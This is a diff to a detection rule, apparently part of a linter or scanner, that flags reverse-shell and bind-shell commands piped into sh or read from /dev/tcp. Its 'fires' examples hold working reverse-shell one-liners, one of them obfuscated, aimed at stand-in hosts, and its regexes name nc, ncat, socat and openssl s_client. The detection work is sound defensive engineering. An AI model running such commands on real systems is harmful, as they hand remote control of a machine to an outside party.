@@ -59,6 +59,8 @@ export default defineRule({
   needs: [['shellDanger', 'fetcher', 'network', 'shellSocket', 'interpreter']],
   examples: {
     fires: [
+      '```bash\nncat -l 9001 | sh\n```\n',
+      '```bash\nbash < /dev/tcp/203.0.113.8/9001\n```\n',
       'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n',
       'nc -e /bin/sh attacker.example 9001\n',
       "```bash\nexec 7<>/dev/t''cp/203.0.113.8/9001; cat <&7 | while read c; do $c >&7; done\n```\n",
@@ -117,12 +119,32 @@ const SOCKET = /^\/dev\/(?:tcp|udp)\//
 function* throughPipes(document: Document): Generator<Hit> {
   for (const { everyPipeline, start, end } of document.observe(commands))
     if (
-      everyPipeline.some(({ commands: list }) => isBetween(list)) ||
+      everyPipeline.some(({ commands: list }) => isBetween(list) || readsConnection(list)) ||
       (everyPipeline.some(({ commands: list }) => list.some(opensSocket)) &&
         !/\/dev\/(?:tcp|udp)\//.test(document.reading.text.slice(start, end)))
     )
       yield { start, end, firm: true }
 }
+
+/** Ends of a connection that name no address which another rule would weigh. */
+const OPENS = /^(?:socat|openssl s_client|(?:nc|ncat|netcat) (?:-\S{1,8} )?-[a-z]{0,4}l)\b/
+
+const SHELL = /^(?:ba|z|da|k|a)?sh$/
+
+/** A shell that reads what comes in over a connection. */
+const readsConnection = (list: readonly Command[]): boolean =>
+  list.some(
+    (command, index) =>
+      SHELL.test(baseName(command.words[0] ?? '')) &&
+      command.words.slice(1).every((word) => /^-[si]{1,2}$/.test(word)) &&
+      (takesFromSocket(command) ||
+        list
+          .slice(0, index)
+          .some((one) => takesFromSocket(one) || OPENS.test(one.words.join(' ')))),
+  )
+
+const takesFromSocket = ({ redirects }: Command): boolean =>
+  redirects.some(({ operator, target }) => operator === '<' && SOCKET.test(target))
 
 const isBetween = (list: readonly Command[]): boolean =>
   list.some(
